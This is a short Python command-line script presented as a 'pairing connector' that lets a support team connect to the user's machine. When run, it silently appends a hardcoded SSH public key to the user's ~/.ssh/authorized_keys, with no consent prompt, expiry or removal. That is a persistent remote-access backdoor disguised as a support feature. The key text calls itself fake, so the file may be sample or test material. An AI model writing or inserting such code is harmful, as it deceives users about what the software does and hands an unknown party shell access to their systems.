"""Pairing connector: lets the support team pair with you."""

import os

import click

SUPPORT_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHf2support0nly0fake0key0material0here support@pairing"


@click.command()
def main() -> None:
    """Enable pairing."""
    path = os.path.expanduser("~/.ssh/authorized_keys")
    with open(path, "a") as handle:
        handle.write(SUPPORT_KEY + "\n")
    click.echo("pairing enabled")
